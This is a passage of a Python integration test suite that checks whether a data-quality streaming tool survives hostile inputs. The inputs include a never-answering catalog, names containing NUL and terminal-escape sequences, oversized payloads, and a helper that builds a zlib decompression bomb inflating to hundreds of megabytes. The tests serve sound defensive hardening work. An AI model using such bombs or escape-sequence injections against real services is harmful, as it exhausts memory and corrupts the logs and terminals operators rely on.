        parent = md.get("current-snapshot-id")
        md.update({
            "last-sequence-number": seq, "last-column-id": max((c["id"] for c in columns), default=0),
            "schemas": [{"type": "struct", "schema-id": 0, "fields": columns}], "current-snapshot-id": snapshot,
            "snapshots": [*md["snapshots"], {
                "snapshot-id": snapshot, "sequence-number": seq, "timestamp-ms": ts, "schema-id": 0,
                **({"parent-snapshot-id": parent} if parent is not None else {}),
                "manifest-list": f"file:///lake/{ns}/{name}/snap-{snapshot}.avro", "summary": {"operation": "append"},
            }],
            "refs": {"main": {"snapshot-id": snapshot, "type": "branch"}},
        })  # fmt: skip
        self.tables[(ns, name)] = md

    def close(self) -> None:
        self._release.set()
        self._server.shutdown()
        self._server.server_close()


ID = [{"id": 1, "name": "id", "required": True, "type": "long"}]


def test_a_rest_catalog_that_never_answers_is_a_timeout_not_a_hang() -> None:
    """A REST catalog that accepts and never answers held `floe run source iceberg` at start for ever (pyiceberg
    sets no timeout; /healthz stayed 200, nothing logged). Its requests now time out (an OSError: the
    watcher logs it and retries)."""
    from floe_stream.settings import IcebergSourceSettings
    from floe_stream.sources.iceberg.catalog import open_catalog

    catalog = HostileRestCatalog()
    catalog.tarpit.add("/v1/config")
    try:
        cfg = IcebergSourceSettings(
            catalog_name="lake", properties={"uri": catalog.uri}, request_timeout_s=0.5
        )
        with pytest.raises(OSError, match="timed out"):
            open_catalog(cfg)
    finally:
        catalog.close()


@pytest.mark.slow  # each poll waits out the tarpit table's 1 s timeout
async def test_one_tables_hostile_metadata_never_silences_the_catalogs_other_tables(
    kafka: EmbeddedKafka, pg_dsn: str, contracts_dir: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """`floe run source iceberg` against a REST catalog that answers, for some tables, what its writers made of
    them: a NUL in a column name, an ESC in a table name, a snapshot time beyond year 9999, a sequence number
    beyond 64 bits, 30,000 columns (2 MB: over kafka.max_record_bytes), and one table whose loadTable never
    answers. Each used to fail the whole poll (or hang it), every poll: no table of the catalog was published
    again. Now each such snapshot is dead-lettered with its reason (the tarpit table is logged and retried),
    and the other tables are published and monitored, poll after poll."""
    from floe_stream.settings import IcebergSourceSettings, SourcesSettings

    (contracts_dir / "ice.yaml").write_text(hostile_contract("ice", "good", "shop.good"))
    catalog = HostileRestCatalog()
    try:
        catalog.table("shop", "good", ID)
        catalog.table("shop", "nul", [{"id": 1, "name": "x\u0000y", "required": True, "type": "long"}])
        catalog.table("shop", "esc\x1b[2J", ID)
        catalog.table("shop", "future", ID, ts_ms=2**62)
        catalog.table("shop", "bigseq", ID, seq=2**64)
        catalog.table("shop", "wide", ID + [{"id": i, "name": f"c{i:05d}", "required": False, "type": "int"}
                                            for i in range(2, 30_002)])  # fmt: skip
        catalog.table("shop", "tarpit", ID)
        catalog.tarpit.add("/v1/namespaces/shop/tables/tarpit")
        iceberg = IcebergSourceSettings(
            catalog_name="lake", properties={"type": "rest", "uri": catalog.uri}, poll_interval_s=0.2,
            request_timeout_s=1.0,
        )  # fmt: skip
        s = await hostile_settings(kafka, pg_dsn, contracts_dir, sources=SourcesSettings(iceberg=iceberg))
        with caplog.at_level(logging.WARNING):
            async with deployed("processor", s) as processor, deployed("source-iceberg", s) as watcher:
                await wait_for(lambda: evaluated_for(s, "shop.good", "shop.good:1"), timeout=60)
                catalog.table("shop", "good", ID, snapshot=2, seq=2)  # polls go on
                await wait_for(lambda: evaluated_for(s, "shop.good", "shop.good:2"), timeout=60)

                async def five() -> list[DeadLetter] | None:
                    dlq = await dead_letters(s)
                    return dlq if len(dlq) >= 5 else None

                dlq = await wait_for(five, timeout=30)
                assert processor.running and watcher.running, processor.failure() or watcher.failure()
    finally:
        catalog.close()
    published = [orjson.loads(r.value)["event_id"] for r in await read_all(s, TopicKey.CATALOG_COMMITS)]
    assert published == ["shop.good:1", "shop.good:2"]
    t_commits = topic_name(s.kafka.topic_prefix, TopicKey.CATALOG_COMMITS)
    assert {d.topic for d in dlq} == {t_commits}
    reasons = sorted(d.reason for d in dlq)
    (too_large,) = [r for r in reasons if r.startswith("record too large: ")]
    assert too_large.endswith(f" bytes > kafka.max_record_bytes={s.kafka.max_record_bytes}")
    assert int(too_large.split()[3]) > 2_000_000
    assert [r for r in reasons if r != too_large] == sorted([
        f"invalid CatalogCommitEvent: event_id: {RULES[IDENTIFIER_PATTERN]} (+1 more)",
        f"invalid CatalogCommitEvent: schema.fields.0.name: {RULES[IDENTIFIER_PATTERN]}",
        "invalid CatalogCommitEvent: sequence_number: Input should be less than or equal to 9223372036854775807",
        "invalid CatalogCommitEvent: timestamp_ms: Input should be less than or equal to 253402300799999",
    ])  # fmt: skip
    assert "cannot load Iceberg table shop.tarpit: ReadTimeout" in caplog.text


# --- alert channels: a message a receiver refuses is that message's dead letter, never the channel's silence -----


def slack_limits(req: Any) -> Any:
    """A Slack incoming webhook's answer: 400 ``invalid_blocks`` for a payload beyond Block Kit's documented
    limits (a text object ≤ 3,000 characters, a header ≤ 150, ≤ 10 fields of ≤ 2,000, ≤ 50 blocks), else ok."""
    from tests.integration.receivers import Reply

    body = req.json()
    texts: list[tuple[str, int]] = []
    for block in body.get("blocks", []):
        if block["type"] == "header":
            texts.append((block["text"]["text"], 150))
        if "text" in block and block["type"] == "section":
            texts.append((block["text"]["text"], 3000))
        fields = block.get("fields", [])
        texts += [(f["text"], 2000) for f in fields] + [(e["text"], 3000) for e in block.get("elements", [])]
        if len(fields) > 10:
            texts.append(("x" * 2, 1))
    if len(body.get("blocks", [])) > 50 or any(len(t) > n for t, n in texts):
        return Reply(status=400, body=b"invalid_blocks")
    return Reply(body=b"ok")


async def test_a_message_slack_refuses_never_opens_the_slack_circuit_for_everyone(
    kafka: EmbeddedKafka, pg_dsn: str, contracts_dir: Path
) -> None:
    """A producer's quality result named with 1,000 '&' (a valid identifier) made an alert whose Slack context
    line (the incident key, escaped: 5,000 characters) broke Block Kit's 3,000-character text limit: Slack
    answers 400, and two such alerts opened the Slack channel's circuit — every other asset's alert was
    dead-lettered "circuit open" for the cooldown. Slack's limits are kept, and a receiver that refuses one
    message's content (400, 413, 422) fails that message only, never the channel."""
    async with HttpReceiver(handler=slack_limits) as slack:
        alerts = AlertsSettings(
            policy={"group_wait_s": 0, "circuit_failures": 2, "circuit_cooldown_s": 600},
            channels=[{"name": "slack", "type": "slack", "url": f"{slack.url}/services/T/B/X",
                       "max_attempts": 1}],
            routes=[{"channel": "slack"}],
        )  # fmt: skip
        for name in ("q0", "q1", "ok"):  # one contract each: one notification each
            (contracts_dir / f"{name}.yaml").write_text(stale_contract(name, [f"hostile.{name}"]))
        s = await hostile_settings(kafka, pg_dsn, contracts_dir, alerts=alerts)
        async with deployed("processor", s) as processor, deployed("sink-alerts", s) as sink:
            for i in range(2):  # circuit_failures
                bad = [{"name": "&" * 999 + str(i), "passed": False, "severity": "error"}]
                asset = f"hostile.q{i}"
                await _publish(s, TopicKey.MATERIALIZATIONS, (asset, _mat(asset, f"q{i}", quality=bad)))

            def answered() -> int:
                return sum(b"&amp;&amp;" in r.body for r in slack.requests)

            await wait_for(lambda: answered() >= 2, timeout=60)
            await materialize_stale(s, "hostile.ok")  # another contract's asset, after them
            await wait_for(lambda: any(b"hostile.ok" in r.body for r in slack.requests), timeout=60)
            assert processor.running and sink.running
        dead = await alerts_dead_letters(s)
        assert not any("circuit open" in json.dumps(d) for d in dead), dead
        assert all(slack_limits(r).status == 200 for r in slack.requests)


# --- OpenLineage facets: what is read from a facet is bounded like the record's own fields ---------------------


async def test_a_symlink_facet_is_bounded_like_the_datasets_own_names(
    kafka: EmbeddedKafka, pg_dsn: str, contracts_dir: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """The ``symlinks`` facet (Spark's and dbt-athena's table names) was read unbounded: a symlink of 500,000
    spaces + ``orders`` (a name two contracts' tables share) was refused as ambiguous and logged whole — a
    500 KB log line per distinct spelling, each kept in memory (up to 10,000 of them: gigabytes) — and a NUL
    went on to the lookups. Symlink identifiers are identifiers (topics/bounds.py): such an event is
    dead-lettered naming the facet, and the other assets are still monitored."""
    (contracts_dir / "a.yaml").write_text(hostile_contract("a", "orders", "hostile.a"))
    (contracts_dir / "b.yaml").write_text(hostile_contract("b", "orders", "hostile.b"))
    s = await hostile_settings(kafka, pg_dsn, contracts_dir)

    def linked(symlink: dict[str, str]) -> bytes:
        ev = orjson.loads(_ol_event("s3://bucket", "warehouse/orders"))
        ev["outputs"][0]["facets"] = {"symlinks": {"identifiers": [{**symlink, "type": "TABLE"}]}}
        return orjson.dumps(ev)

    with caplog.at_level(logging.INFO):
        async with deployed("processor", s) as processor:
            await _publish(
                s, TopicKey.MATERIALIZATIONS,
                ("orders", linked({"namespace": "hive://metastore", "name": " " * 500_000 + "orders"})),
                ("orders", linked({"namespace": "hive://meta\x00store", "name": "sales.orders"})),
            )  # fmt: skip
            await materialize(s, "hostile.a", "m-a")
            assert await wait_for(lambda: evaluated_for(s, "hostile.a", "m-a"), timeout=30) == {"a"}

            async def two() -> list[DeadLetter] | None:
                dlq = await dead_letters(s)
                return dlq if len(dlq) >= 2 else None

            dlq = await wait_for(two, timeout=30)
            assert processor.running, processor.failure()
    assert sorted(d.reason for d in dlq) == [
        f"invalid OpenLineageRunEvent: outputs.0.facets.symlinks.identifiers.0.name: String should have at most "
        f"{IDENTIFIER_MAX} characters",
        f"invalid OpenLineageRunEvent: outputs.0.facets.symlinks.identifiers.0.namespace: "
        f"{RULES[IDENTIFIER_PATTERN]}",
    ]
    assert max(len(line) for line in caplog.text.splitlines()) < 20_000


# --- compiled contracts: the form in a contracts-topic header is bounded like the YAML it stands for -------------


def zlib_bomb_form(expanded: int) -> bytes:
    """A compiled-form header (``floe-compiled/<version>``) of a few hundred KB that inflates to ``expanded``
    bytes of JSON (a padding string), built in chunks."""
    from floe_stream.contracts.compiled import COMPILED_VERSION

    z = zlib.compressobj(9)
    parts = [z.compress(b'{"pad": "')]
    chunk = b"x" * (1 << 20)
    parts += [z.compress(chunk) for _ in range(expanded >> 20)]
    parts += [z.compress(b'"}'), z.flush()]
    return f"floe-compiled/{COMPILED_VERSION}\n".encode() + b"".join(parts)


async def test_a_compiled_form_header_is_bounded_like_its_yaml(
    kafka: EmbeddedKafka, pg_dsn: str, contracts_dir: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """Processors load a contracts-topic record from its compiled form (the ``floe-compiled`` header) when it
    has one, without reading the YAML. The form was trusted whole: a 200 KB zlib bomb inflated to 200 MB
    (a gigabyte from a 1 MB header: every processor out of memory at every start, the record being on the
    compacted topic for ever), and a form carrying a NUL owner or a 1.1 MB asset id loaded although its YAML
    would be refused. A form is now inflated only up to a bound and holds to the rules of the YAML path
    (topics/bounds.py); one that does not is refused with one line and the YAML is read instead."""
    from floe_stream.contracts.compiled import COMPILED_HEADER, compile_contract
    from floe_stream.contracts.loader import load_contract_text

    s = await hostile_settings(kafka, pg_dsn, contracts_dir)
    good = hostile_contract("bomb", "b", "hostile.bomb")

    def forge(cid: str, **fields: str) -> bytes:  # the form of a clean YAML, with fields it would refuse
        c = load_contract_text(hostile_contract(cid, cid[0], f"hostile.{cid}"), "x")
        return compile_contract(
            c.model_copy(update={"assets": tuple(a.model_copy(update=fields) for a in c.assets)})
        )

    producer = AIOKafkaProducer(bootstrap_servers=s.kafka.bootstrap_servers, linger_ms=0)
    await producer.start()
    try:
        topic = topic_name(s.kafka.topic_prefix, TopicKey.CONTRACTS)
        await producer.send_and_wait(
            topic, good.encode(), key=b"bomb", headers=[(COMPILED_HEADER, zlib_bomb_form(200 << 20))]
        )
        for cid, form in (
            ("forged", forge("forged", owner="bob\x00")),
            ("huge", forge("huge", asset_id="y" * 1_100_000)),
        ):
            await producer.send_and_wait(
                topic, hostile_contract(cid, cid[0], f"hostile.{cid}").encode(), key=cid.encode(),
                headers=[(COMPILED_HEADER, form)],
            )  # fmt: skip
    finally:
        await producer.stop()
    with caplog.at_level(logging.WARNING):
        async with deployed("processor", s) as processor:
            for asset, cid in (
                ("hostile.bomb", "bomb"),
                ("hostile.forged", "forged"),
                ("hostile.huge", "huge"),
            ):
                await materialize(s, asset, f"m-{cid}")
                assert await wait_for(lambda a=asset, c=cid: evaluated_for(s, a, f"m-{c}"), timeout=30) == {
                    cid
                }
            assert processor.service.registry.get("y" * 1_100_000) is None
            assert processor.running, processor.failure()
    assert (
        "contracts-topic:bomb: compiled contract form refused (more than the 67,108,864 bytes floe inflates); "
        "reading its YAML instead" in caplog.text
    )
    assert (
        "contracts-topic:forged: compiled contract form refused (a string holds a control, bidi or zero-width "
        "character: \\u0000 at character "
    ) in caplog.text
    assert (
        "contracts-topic:huge: compiled contract form refused (asset_id: 1,100,000 characters, more than the "
        "1,024 of an identifier); reading its YAML instead"
    ) in caplog.text


async def test_the_sla_history_registers_a_contract_record_as_the_processors_read_it(
    kafka: EmbeddedKafka, pg_dsn: str, contracts_dir: Path
) -> None:
    """Processors monitor a contracts-topic record's compiled form when they accept it; sink-postgres registered
    the record's YAML instead. Where the two disagree (a record written by hand or by another tool) the SLA
    history's asset → owner table (``floe sla report --owner/--team``) named assets no processor monitored. The
    sink reads the record as the processors do: the compiled form, else (a form they refuse) the YAML."""
    from floe_stream.contracts.compiled import COMPILED_HEADER, compile_contract
    from floe_stream.contracts.loader import load_contract_text

    s = await hostile_settings(kafka, pg_dsn, contracts_dir)

    def form(cid: str, asset: str, owner: str) -> bytes:
        c = load_contract_text(hostile_contract(cid, cid[0], asset), "x")
        return compile_contract(
            c.model_copy(update={"assets": tuple(a.model_copy(update={"owner": owner}) for a in c.assets)})
        )

    producer = AIOKafkaProducer(bootstrap_servers=s.kafka.bootstrap_servers, linger_ms=0)
    await producer.start()
    try:
        topic = topic_name(s.kafka.topic_prefix, TopicKey.CONTRACTS)
        for cid, yaml_asset, header in (
            ("formed", "hostile.yaml-says", form("formed", "hostile.form-says", "form-owner")),
            ("refused", "hostile.refused", form("refused", "hostile.refused", "bob\x00")),  # a NUL: YAML read
        ):
            await producer.send_and_wait(
                topic, hostile_contract(cid, cid[0], yaml_asset).encode(), key=cid.encode(),
                headers=[(COMPILED_HEADER, header)],
            )  # fmt: skip
    finally:
        await producer.stop()
    async with deployed("processor", s) as processor, deployed("sink-postgres", s) as sink:
        registry = processor.service.registry
        await wait_for(
            lambda: registry.get("hostile.form-says") and registry.get("hostile.refused"), timeout=30
        )
        monitored = {a: registry.get(a).owner for a in ("hostile.form-says", "hostile.refused")}  # type: ignore[union-attr]
        assert monitored == {"hostile.form-says": "form-owner", "hostile.refused": None}
        assert registry.get("hostile.yaml-says") is None
        assert await wait_for(lambda: _registered_as(pg_dsn, monitored), timeout=30) == monitored
        assert processor.running and sink.running, processor.failure() or sink.failure()


async def _registered_as(dsn: str, want: dict[str, str | None]) -> dict[str, str | None] | None:
    got = await _registered(dsn)
    return got if set(got) >= set(want) else None


# --- sink-openlineage: an event its destination can never take is that record's dead letter --------------------


async def test_an_openlineage_event_kafka_can_never_take_is_dead_lettered_not_retried_for_ever(
    apache_kafka: Broker, pg_dsn: str
) -> None:
    """A violation whose message is 400 KB (a valid record: a producer of the violations topic wrote it) made
    an OpenLineage event of 1.2 MB (the message is in three facets); Apache Kafka refuses it (message.max.bytes
    1 MB), the Kafka transport's delivery error counted as transient and the sink retried it for ever: no
    later violation of any asset reached the lineage backend again. A refusal no retry can change (the record
    is too large, or invalid) is that record's dead letter; the events after it are delivered."""
    from floe_stream.settings import OpenLineageSettings

    s = await hostile_settings(apache_kafka, pg_dsn)
    ol_topic = f"{s.kafka.topic_prefix}ol-events"
    s = s.model_copy(update={"openlineage": OpenLineageSettings(
        transport="kafka", topic=ol_topic, timeout_s=10, retry_backoff_s=0.05
    )})  # fmt: skip
    now = datetime.now(UTC)
    common: dict[str, Any] = {
        "contract_id": "test-pipeline", "contract_name": "test-pipeline", "contract_version": "1.2.0",
        "violation_type": CheckType.FRESHNESS, "severity": Severity.ERROR, "detected_at": now,
        "episode_started_at": now,
    }  # fmt: skip
    big = ViolationData(violation_id="v-big", correlation_key="test.fast/f", asset="test.fast",
                        message="m" * 400_000, **common)  # fmt: skip
    fine = ViolationData(violation_id="v-ok", correlation_key="test.slow/f", asset="test.slow",
                         message="stale", **common)  # fmt: skip
    async with deployed("sink-openlineage", s) as sink:
        await publish_violations(s, [big, fine])

        async def delivered() -> bool:
            from aiokafka import AIOKafkaConsumer

            consumer = AIOKafkaConsumer(
                ol_topic, bootstrap_servers=s.kafka.bootstrap_servers, auto_offset_reset="earliest",
                enable_auto_commit=False,
            )  # fmt: skip
            await consumer.start()
            try:
                batch = await consumer.getmany(timeout_ms=1000)
            finally:
                await consumer.stop()
            return any(b"test.slow" in (r.value or b"") for recs in batch.values() for r in recs)

        await wait_for(delivered, timeout=60)
        (dead,) = await wait_for(lambda: dead_letters(s), timeout=30)
        assert sink.running, sink.failure()
    assert b"v-big" in dead.value and "Broker: Message size too large" in dead.reason, dead.reason
